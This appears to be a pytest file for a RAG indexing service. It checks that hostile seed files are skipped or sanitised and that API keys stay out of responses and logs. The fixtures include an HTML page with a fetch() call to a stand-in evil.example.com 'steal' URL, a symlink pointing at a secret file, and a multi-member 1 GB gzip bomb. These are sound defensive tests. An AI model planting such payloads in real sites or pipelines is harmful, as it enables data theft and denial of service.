"""A seeds folder of hostile and broken files: the build finishes, every skip has a reason, and
nothing outside the folder is read. Secrets never show in logs, errors or responses."""

import gzip
import json
import os
import subprocess
import sys

import httpx

from tests.conftest import ARTIFACTS_DIR, SEED_QUESTION, make_settings, rag_env
from tests.server_process import running_server


def test_hostile_seeds_folder(tmp_path, seeds_copy):
    seeds = seeds_copy
    (seeds / "binary.txt").write_bytes(os.urandom(4096) + b"\x00")
    (seeds / "empty.md").write_text("")
    with open(seeds / "huge.txt", "wb") as fh:  # 50 MB of text
        line = b"All work and no play makes a very long article indeed. " * 20 + b"\n"
        for _ in range((50 * 1024 * 1024) // len(line) + 1):
            fh.write(line)
    (seeds / "latin1.txt").write_bytes("Titre\n\nCaf\xe9 cr\xe8me.".encode("latin-1"))
    (seeds / "feed.jsonl").write_text(
        json.dumps({"id": "ok-1", "title": "Ferry fares frozen",
                    "text": "Ferry fares to the islands will stay frozen until 2027, the operator said."})
        + "\n{broken\n[1, 2]\n")
    (seeds / "copy.txt").write_bytes((seeds / "000_91fdc298d10704eb.txt").read_bytes())
    secret = tmp_path / "secret.txt"
    secret.write_text("Secret plans\n\nThe password for the vault is hunter2-TOPSECRET.\n")
    (seeds / "sneaky.txt").symlink_to(secret)
    (seeds / "page.html").write_text(
        "<html><head><title>Bridge reopens</title><script>document.write('SCRIPT-PAYLOAD')</script></head>"
        "<body><iframe src='https://evil.example.com/x'>IFRAME-PAYLOAD</iframe><article><h1>Bridge reopens</h1>"
        "<p>The Kettle Street bridge reopened to traffic on Friday after eight months of repairs costing "
        "12 million pounds, the council said.</p><p>Cyclists get a separate lane for the first time.</p>"
        "</article><script>fetch('https://evil.example.com/steal')</script></body></html>")
    settings = make_settings(tmp_path, seeds_dir=seeds)
    env = rag_env(settings)
    proc = subprocess.run([sys.executable, "-m", "rag.cli", "index"], env=env, capture_output=True,
                          text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    for name, reason in [("binary.txt", "binary"), ("empty.md", "empty file"), ("huge.txt", "too large"),
                         ("latin1.txt", "UTF-8"), ("feed.jsonl:2", "malformed JSON"),
                         ("feed.jsonl:3", "expected a JSON object"), ("sneaky.txt", "outside the seeds folder")]:
        assert f"skipped {name}: " in out and reason in out.split(f"skipped {name}: ")[1].splitlines()[0], name
    assert "same text as" in out  # the duplicate under another name
    assert out.strip().splitlines()[-1].startswith("3 added")  # seed, feed record, HTML page

    from rag.index.store import Store

    store = Store(settings)
    text = "\n".join(store.collection(store.current().snapshot).rows().documents)
    assert "TOPSECRET" not in text and "SCRIPT-PAYLOAD" not in text and "IFRAME-PAYLOAD" not in text
    assert "evil.example.com" not in text
    assert "12 million pounds" in text


def test_secrets_never_appear_in_responses_errors_or_logs(seed_settings, llm, tmp_path):
    api_key, llm_key = "rag-key-Zq8x7Secret", "sk-llm-Zq8x7Secret"
    llm.status = 401  # the LLM server rejects the key: the error must not echo it
    with running_server(seed_settings, RAG_API_KEY=api_key, OPENAI_API_KEY=llm_key,
                        OPENAI_BASE_URL=llm.base_url, RAG_LLM_MODEL="scripted") as base:
        replies = [
            httpx.post(f"{base}/api/answer", json={"question": SEED_QUESTION},
                       headers={"Authorization": f"Bearer {api_key}"}, timeout=60),
            httpx.post(f"{base}/api/answer", json={"question": SEED_QUESTION},
                       headers={"Authorization": "Bearer wrong-key"}, timeout=60),
            httpx.post(f"{base}/api/answer?stream=true", json={"question": SEED_QUESTION},
                       headers={"Authorization": f"Bearer {api_key}"}, timeout=60),
            httpx.get(f"{base}/api/index", headers={"Authorization": f"Bearer {api_key}"}, timeout=60),
            httpx.get(f"{base}/openapi.json", timeout=60),
            httpx.get(f"{base}/healthz", timeout=60),
        ]
        body = replies[0].json()
        assert body["mode"] == "extractive-fallback"  # the LLM failed, and said why
        assert llm.requests and llm.requests[-1]  # the key was really sent to the LLM server
    seen = "\n".join(r.text for r in replies)
    logs = (ARTIFACTS_DIR() / f"server-{base.rsplit(':', 1)[1]}.log").read_text(errors="replace")
    # The failure was logged by the answer path itself (not some library's warning), without the keys.
    assert "rag.answer.answerers: LLM answer failed" in logs
    for secret in (api_key, llm_key, "Zq8x7Secret"):
        assert secret not in seen
        assert secret not in logs


# Runs `rag index` in a fresh interpreter, so RUSAGE_CHILDREN is that one process; VmHWM is
# polled as well so that a runaway build is stopped at the limit rather than swapping the machine.
_PEAK_RSS = """
import json, resource, subprocess, sys, time
limit_kb, out_path = int(sys.argv[1]), sys.argv[2]
with open(out_path, "w") as out:
    proc = subprocess.Popen([sys.executable, "-m", "rag.cli", "index"], stdout=out, stderr=subprocess.STDOUT)
    seen_kb, killed = 0, False
    while proc.poll() is None:
        try:
            with open(f"/proc/{proc.pid}/status") as fh:
                seen_kb = max([seen_kb] + [int(l.split()[1]) for l in fh if l.startswith("VmHWM:")])
        except (OSError, ValueError):
            pass
        if seen_kb > limit_kb and not killed:
            proc.kill()
            killed = True
        time.sleep(0.05)
peak_kb = max(seen_kb, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps({"rc": proc.returncode, "peak_kb": peak_kb, "killed": killed}))
"""


def test_a_gzip_bomb_is_skipped_and_the_build_stays_small(tmp_path, seeds_copy):
    record = (json.dumps({"id": "bomb", "title": "Bomb", "text": "Boom. " + "a" * 100_000}) + "\n").encode()
    member = gzip.compress(record * 10, compresslevel=9)  # ~1 MB, compressed once
    with open(seeds_copy / "bomb.jsonl.gz", "wb") as fh:
        for _ in range(1024):  # a gzip file may be many members: 1 GB of one record, ~1.3 MB on disk
            fh.write(member)
    assert (seeds_copy / "bomb.jsonl.gz").stat().st_size < 2 * 1024 * 1024
    settings = make_settings(tmp_path, seeds_dir=seeds_copy)
    limit_kb = 1024 * 1024
    proc = subprocess.run([sys.executable, "-c", _PEAK_RSS, str(limit_kb), str(tmp_path / "out.txt")],
                          env=rag_env(settings), capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    run = json.loads(proc.stdout)
    out = (tmp_path / "out.txt").read_text()
    print(f"rag index on a 1 GB gzip bomb: peak RSS {run['peak_kb'] / 1024:.0f} MB")
    assert not run["killed"] and run["peak_kb"] < limit_kb, run
    assert run["rc"] == 0, out
    assert "skipped bomb.jsonl.gz: compressed over 100:1" in out
    assert out.strip().splitlines()[-1].startswith("1 added")  # the seed article beside it
